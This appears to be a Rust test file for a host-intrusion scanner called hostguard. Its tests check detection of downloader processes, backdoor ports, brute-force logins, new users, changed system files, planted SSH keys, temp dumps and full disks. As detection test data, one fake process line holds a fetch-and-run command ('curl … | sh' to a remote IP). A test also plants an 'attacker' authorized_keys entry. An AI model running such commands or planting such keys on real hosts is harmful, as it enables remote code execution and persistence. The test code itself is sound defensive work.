#![allow(clippy::expect_used)]

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::path::Path;

use filetime::{set_file_mtime, FileTime};
use hostguard::application::config::AppConfig;
use hostguard::application::services::scanner::SecurityScanner;
use hostguard::domain::entities::disk::DiskInfo;
use hostguard::domain::entities::process::ProcessInfo;
use hostguard::domain::entities::socket::{ListeningSocket, Protocol};
use hostguard::domain::ports::collector::CollectionError;
use hostguard::domain::ports::inspector::HostInspector;
use hostguard::infrastructure::persistence::file_store::FileFingerprintStore;

#[derive(Default)]
struct FakeHost {
    processes: Vec<ProcessInfo>,
    sockets: Vec<ListeningSocket>,
    disks: Vec<DiskInfo>,
}

impl HostInspector for FakeHost {
    fn processes(&self) -> Result<Vec<ProcessInfo>, CollectionError> {
        Ok(self.processes.clone())
    }

    fn listening_sockets(&self) -> Result<Vec<ListeningSocket>, CollectionError> {
        Ok(self.sockets.clone())
    }

    fn disks(&self) -> Result<Vec<DiskInfo>, CollectionError> {
        Ok(self.disks.clone())
    }
}

struct BrokenHost;

impl HostInspector for BrokenHost {
    fn processes(&self) -> Result<Vec<ProcessInfo>, CollectionError> {
        Err(CollectionError::PermissionDenied("/proc".to_string()))
    }

    fn listening_sockets(&self) -> Result<Vec<ListeningSocket>, CollectionError> {
        Err(CollectionError::PermissionDenied("/proc/net".to_string()))
    }

    fn disks(&self) -> Result<Vec<DiskInfo>, CollectionError> {
        Err(CollectionError::MetricsUnavailable("mounts".to_string()))
    }
}

fn sandbox(root: &Path) -> AppConfig {
    let sub = |name: &str| root.join(name).to_string_lossy().into_owned();
    let mut config = AppConfig::default();
    config.paths.home_dir = sub("home");
    config.paths.etc_dir = sub("etc");
    config.paths.cron_paths = vec![sub("cron")];
    config.paths.auth_log = sub("auth.log");
    config.paths.temp_dirs = vec![sub("tmp")];
    config.security.app_root = sub("www");
    config
}

fn write(path: &Path, content: &str) {
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).expect("mkdir");
    }
    std::fs::write(path, content).expect("write");
}

fn age(path: &Path, days: i64) {
    let now = FileTime::now().unix_seconds();
    set_file_mtime(path, FileTime::from_unix_time(now - days * 86_400, 0)).expect("mtime");
}

fn socket(address: IpAddr, port: u16) -> ListeningSocket {
    ListeningSocket {
        protocol: Protocol::Tcp,
        address,
        port,
    }
}

#[test]
fn downloader_process_is_flagged() {
    let dir = tempfile::tempdir().expect("tempdir");
    let config = sandbox(dir.path());
    let store = FileFingerprintStore::new(dir.path().join("cache"));
    let host = FakeHost {
        processes: vec![
            ProcessInfo {
                pid: 4242,
                name: "bash".to_string(),
                cmdline: "bash -c curl -s http://203.0.113.9/x.sh | sh".to_string(),
                user: "www-data".to_string(),
            },
            ProcessInfo {
                pid: 4243,
                name: "curl".to_string(),
                cmdline: "curl https://example.com/health".to_string(),
                user: "root".to_string(),
            },
        ],
        ..FakeHost::default()
    };
    let scanner = SecurityScanner::new(&host, &store, &config).expect("scanner");

    let alert = scanner.check_suspicious_processes().expect("alert");
    assert_eq!(alert.title, "Suspicious Processes");
    assert!(alert.details.contains("x.sh"));
    assert!(!alert.details.contains("health"));
}

#[test]
fn ports_split_backdoors_from_exposed_services() {
    let dir = tempfile::tempdir().expect("tempdir");
    let config = sandbox(dir.path());
    let store = FileFingerprintStore::new(dir.path().join("cache"));
    let host = FakeHost {
        sockets: vec![
            socket(IpAddr::V4(Ipv4Addr::LOCALHOST), 4444),
            socket(IpAddr::V4(Ipv4Addr::UNSPECIFIED), 31337),
            socket(IpAddr::V6(Ipv6Addr::UNSPECIFIED), 6800),
            socket(IpAddr::V4(Ipv4Addr::UNSPECIFIED), 443),
        ],
        ..FakeHost::default()
    };
    let scanner = SecurityScanner::new(&host, &store, &config).expect("scanner");

    let alerts = scanner.check_suspicious_ports();
    let titles: Vec<&str> = alerts.iter().map(|a| a.title.as_str()).collect();
    assert_eq!(titles, ["Suspicious Network Ports", "Scrapyd Service Exposed"]);
    assert!(alerts[0].details.contains("31337"));
    assert!(!alerts[0].details.contains("4444"));

    let open: Vec<u16> = scanner.listening_ports().iter().map(|s| s.port).collect();
    assert_eq!(open, [31337, 6800, 443]);
}

#[test]
fn failed_logins_must_exceed_threshold() {
    let dir = tempfile::tempdir().expect("tempdir");
    let config = sandbox(dir.path());
    let store = FileFingerprintStore::new(dir.path().join("cache"));
    let host = FakeHost::default();
    let scanner = SecurityScanner::new(&host, &store, &config).expect("scanner");
    let log = dir.path().join("auth.log");

    let line = |i: usize| format!("Mar 14 sshd[{i}]: Failed password for root from 198.51.100.7\n");
    let twenty: String = (0..20).map(line).collect();
    write(&log, &format!("{twenty}Mar 14 sshd[99]: Accepted publickey for forge\n"));
    assert!(scanner.check_failed_logins().is_none());

    let sixty: String = (0..60).map(line).collect();
    write(&log, &sixty);
    let alert = scanner.check_failed_logins().expect("alert");
    assert_eq!(alert.title, "High Failed Login Attempts");
    assert!(alert.details.starts_with("Count: 50\nRecent attempts:\n"));
    assert_eq!(alert.details.lines().count(), 22);
    assert!(alert.details.ends_with("sshd[59]: Failed password for root from 198.51.100.7"));
}

#[test]
fn new_users_alert_once_until_the_set_changes() {
    let dir = tempfile::tempdir().expect("tempdir");
    let config = sandbox(dir.path());
    let store = FileFingerprintStore::new(dir.path().join("cache"));
    let host = FakeHost::default();
    let scanner = SecurityScanner::new(&host, &store, &config).expect("scanner");
    let home = dir.path().join("home");

    std::fs::create_dir_all(home.join("forge")).expect("mkdir");
    std::fs::create_dir_all(home.join("eve")).expect("mkdir");
    std::fs::create_dir_all(home.join("olduser")).expect("mkdir");
    age(&home.join("olduser"), 30);

    let first = scanner.check_new_users().expect("first alert");
    assert_eq!(first.title, "Recently Created Users");
    assert_eq!(first.details, home.join("eve").to_string_lossy());

    assert!(scanner.check_new_users().is_none());

    std::fs::create_dir_all(home.join("mallory")).expect("mkdir");
    let changed = scanner.check_new_users().expect("changed set alerts");
    assert!(changed.details.contains("mallory"));
}

#[test]
fn sensitive_system_files_and_ssh_keys() {
    let dir = tempfile::tempdir().expect("tempdir");
    let config = sandbox(dir.path());
    let store = FileFingerprintStore::new(dir.path().join("cache"));
    let host = FakeHost::default();
    let scanner = SecurityScanner::new(&host, &store, &config).expect("scanner");

    write(&dir.path().join("etc/passwd"), "root:x:0:0::/root:/bin/bash\n");
    write(&dir.path().join("etc/hosts"), "127.0.0.1 localhost\n");
    write(&dir.path().join("etc/ssh/sshd_config"), "PermitRootLogin no\n");
    age(&dir.path().join("etc/ssh/sshd_config"), 3);

    let files = scanner.check_modified_system_files().expect("alert");
    assert!(files.details.ends_with("passwd"));
    assert_eq!(files.details.lines().count(), 1);

    let key = dir.path().join("home/forge/.ssh/authorized_keys");
    write(&key, "ssh-ed25519 AAAA attacker\n");
    let keys = scanner.check_ssh_keys().expect("alert");
    assert_eq!(keys.title, "Recently Modified SSH Keys");
    assert_eq!(keys.details, key.to_string_lossy());

    age(&key, 10);
    assert!(scanner.check_ssh_keys().is_none());
}

#[test]
fn large_fresh_temp_files_are_listed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut config = sandbox(dir.path());
    config.security.large_file_min_mb = 0;
    let store = FileFingerprintStore::new(dir.path().join("cache"));
    let host = FakeHost::default();
    let scanner = SecurityScanner::new(&host, &store, &config).expect("scanner");

    write(&dir.path().join("tmp/dump.sql"), "INSERT INTO users VALUES (1);\n");
    write(&dir.path().join("tmp/old.tar"), "archive");
    age(&dir.path().join("tmp/old.tar"), 5);
    write(&dir.path().join("tmp/empty"), "");

    let alert = scanner.check_large_files().expect("alert");
    assert_eq!(alert.title, "Large Files Created Recently");
    assert_eq!(alert.details.lines().count(), 1);
    assert!(alert.details.ends_with("dump.sql (0 MB)"));
}

#[test]
fn full_disks_are_reported() {
    let dir = tempfile::tempdir().expect("tempdir");
    let config = sandbox(dir.path());
    let store = FileFingerprintStore::new(dir.path().join("cache"));
    let host = FakeHost {
        disks: vec![
            DiskInfo {
                mount_point: "/".to_string(),
                total_gb: 100.0,
                available_gb: 10.0,
                usage_percent: 90.0,
                filesystem: "ext4".to_string(),
            },
            DiskInfo {
                mount_point: "/data".to_string(),
                total_gb: 500.0,
                available_gb: 300.0,
                usage_percent: 40.0,
                filesystem: "xfs".to_string(),
            },
        ],
        ..FakeHost::default()
    };
    let scanner = SecurityScanner::new(&host, &store, &config).expect("scanner");

    let alert = scanner.check_disk_usage().expect("alert");
    assert_eq!(alert.details, "/ 90% used (10.0 GB free of 100.0 GB)");
}

#[test]
fn unavailable_host_data_is_treated_as_clean() {
    let dir = tempfile::tempdir().expect("tempdir");
    let config = sandbox(dir.path());
    let store = FileFingerprintStore::new(dir.path().join("cache"));
    let scanner = SecurityScanner::new(&BrokenHost, &store, &config).expect("scanner");

    assert!(scanner.run_all().is_empty());
    assert!(scanner.listening_ports().is_empty());
}
